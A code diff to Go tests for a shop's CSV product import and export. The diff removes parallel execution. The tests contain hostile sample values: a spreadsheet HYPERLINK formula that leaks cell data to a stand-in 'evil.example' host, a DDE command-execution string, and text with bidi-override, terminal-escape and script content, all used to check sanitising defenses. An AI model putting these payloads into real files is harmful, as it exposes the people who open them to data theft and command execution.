@@ -130,7 +130,6 @@ broken,Broken,,ACME,Sweets,Title,Default Title,BRK,1,free,,,active
 `
 
 func TestAnImportFromAnotherShop(t *testing.T) {
-	t.Parallel()
 	dbtest.Each(t, func(t *testing.T, d *db.DB) {
 		s := apptest.New(t, d)
 		o := wanted{id: "imp_1", store: "koshary-house", branches: []string{"koshary-maadi", "koshary-zamalek"}}
@@ -181,7 +180,6 @@ func TestAnImportFromAnotherShop(t *testing.T) {
 }
 
 func TestVariationsThatComeLater(t *testing.T) {
-	t.Parallel()
 	dbtest.Each(t, func(t *testing.T, d *db.DB) {
 		s := apptest.New(t, d)
 		file := "ID,Type,SKU,Name,Published,Regular price,Categories,Parent,Attribute 1 name,Attribute 1 value(s)\n" +
@@ -205,7 +203,6 @@ func TestVariationsThatComeLater(t *testing.T) {
 // TestWhatIsExportedIsImported: an export finds the shop as it is, and what is
 // changed in it changes that alone.
 func TestWhatIsExportedIsImported(t *testing.T) {
-	t.Parallel()
 	dbtest.Each(t, func(t *testing.T, d *db.DB) {
 		s := apptest.New(t, d)
 		var file bytes.Buffer
@@ -242,7 +239,6 @@ func TestWhatIsExportedIsImported(t *testing.T) {
 // TestNothingExportedIsAFormula: a program of tables computes nothing of what
 // somebody named their product, and it comes back as it was.
 func TestNothingExportedIsAFormula(t *testing.T) {
-	t.Parallel()
 	dbtest.Each(t, func(t *testing.T, d *db.DB) {
 		s := apptest.New(t, d)
 		hostile := []string{`=HYPERLINK("http://evil.example?"&A1,"x")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "'=already", "''@twice", "'plain", "=1;2, 3"}
@@ -297,7 +293,6 @@ func TestNothingExportedIsAFormula(t *testing.T) {
 // TestHostileTextInFiles: what a file says is cleaned like what is typed: nothing
 // directs other text, rings a bell or stands in an address.
 func TestHostileTextInFiles(t *testing.T) {
-	t.Parallel()
 	dbtest.Each(t, func(t *testing.T, d *db.DB) {
 		s := apptest.New(t, d)
 		evil := "a\u202eb\u2066c\x1b[31md\x07<script>x</script>e\u200f"
@@ -340,7 +335,6 @@ func TestHostileTextInFiles(t *testing.T) {
 // TestARunIsUndoneAsOne: everything is as it was, but for what was changed or
 // sold since, which is named.
 func TestARunIsUndoneAsOne(t *testing.T) {
-	t.Parallel()
 	dbtest.Each(t, func(t *testing.T, d *db.DB) {
 		s := apptest.New(t, d)
 		values := func() []string {
@@ -453,7 +447,6 @@ func cpu(t testing.TB) time.Duration {
 // What failed is not gone on with as something else: a try begins anew, and an
 // undo is not ended by bringing the rest in.
 func TestWhatFailedBeginsAnew(t *testing.T) {
-	t.Parallel()
 	dbtest.Each(t, func(t *testing.T, d *db.DB) {
 		s := apptest.New(t, d)
 		service, by := s.App.Imports(), imports.By{StaffID: asOwner}
